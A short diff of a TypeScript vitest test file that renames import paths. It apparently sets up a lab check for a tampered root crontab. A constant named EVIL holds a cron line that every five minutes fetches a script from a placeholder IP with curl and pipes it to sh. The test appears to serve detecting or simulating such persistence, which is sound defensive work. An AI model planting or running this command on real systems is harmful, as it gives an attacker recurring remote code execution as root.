@@ -1,9 +1,9 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import type { Lab, LabHost } from '../../lab/index.ts';
 import { openLab } from '../../lab/index.ts';
-import { sendCall } from '../act/call.ts';
-import { unchanged, words } from '../act/infected.fixture.ts';
-import { callOf, contexts, cronLine, fileTarget, onHost, target } from '../act/scene.fixture.ts';
+import { unchanged, words } from '../call/infected.fixture.ts';
+import { callOf, contexts, cronLine, fileTarget, onHost, target } from '../call/scene.fixture.ts';
+import { sendCall } from '../call/send.ts';
 
 const TAB = '/var/spool/cron/crontabs/root';
 const EVIL = '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh';
